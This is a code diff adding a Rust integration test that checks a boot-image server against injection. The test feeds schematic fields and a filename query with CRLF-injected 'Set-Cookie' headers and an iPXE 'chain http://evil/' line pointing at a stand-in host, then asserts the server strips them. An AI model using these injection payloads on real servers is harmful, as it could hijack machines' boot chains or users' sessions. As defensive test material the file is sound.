@@ -127,6 +127,60 @@ async fn a_client_that_says_nothing_gives_its_place_up() {
     assert!(is_well(&server).await);
 }
 
+#[tokio::test]
+async fn no_string_of_a_schematic_or_a_query_makes_a_header_field_or_an_ipxe_line() {
+    let (_made, server) = server(Settings::default()).await;
+    let hostile = "a\r\nSet-Cookie: x=1\r\n\r\nchain http://evil/";
+    let text = serde_json::to_string(hostile).unwrap();
+    let bodies = [
+        format!("owner: {text}"),
+        format!("overlay: {{name: {text}}}"),
+        format!("overlay: {{image: {text}}}"),
+        format!("customization: {{extraKernelArgs: [{text}]}}"),
+        format!("customization: {{meta: [{{key: 10, value: {text}}}]}}"),
+        format!("customization: {{systemExtensions: {{officialExtensions: [{text}]}}}}"),
+        format!("{text}: 1"),
+    ];
+    let mut taken = Vec::new();
+    for body in bodies {
+        let response = server.post(body.clone()).await;
+        assert!(matches!(response.status().as_u16(), 201 | 400), "{body}: {}", response.status());
+        assert!(!response.headers().contains_key("set-cookie"), "{body}");
+        if response.status() == 201 {
+            let text = response.text().await.unwrap();
+            let id = text.split('"').find(|word| word.len() == 64).expect("an id").to_owned();
+            taken.push(id);
+        }
+    }
+    assert!(!taken.is_empty());
+    for id in &taken {
+        for path in [
+            format!("/schematics/{id}"),
+            format!("/image/{id}/{VERSION}/metal-amd64-uki.efi"),
+            format!("/image/{id}/{VERSION}/cmdline-metal-amd64"),
+            format!("/pxe/{id}/{VERSION}/metal-amd64"),
+        ] {
+            let response = server.get(&path).send().await.unwrap();
+            // 501: overlays are not there yet.
+            let status = response.status().as_u16();
+            assert!(status < 500 || status == 501, "{path}: {status}");
+            assert!(!response.headers().contains_key("set-cookie"), "{path}");
+            if path.starts_with("/pxe/") {
+                let script = response.text().await.unwrap();
+                assert!(!script.lines().any(|line| line.starts_with("chain")), "{script}");
+            }
+        }
+    }
+    let query = "?filename=a%0d%0aSet-Cookie:%20x=1%0d%0a%0d%0a%22%00";
+    let response = server.head(&format!("{}{query}", path("kernel-amd64"))).send().await.unwrap();
+    assert_eq!(response.status(), 200);
+    assert!(!response.headers().contains_key("set-cookie"));
+    assert!(
+        common::field(&response, "content-disposition").starts_with("attachment; filename=\"a__Set-Cookie")
+    );
+    assert!(is_well(&server).await);
+}
+
 /// A client that asks for [`LARGE`] and reads the header of the answer and no more.
 async fn stalled(server: &Server) -> TcpStream {
     let socket = TcpSocket::new_v4().unwrap();
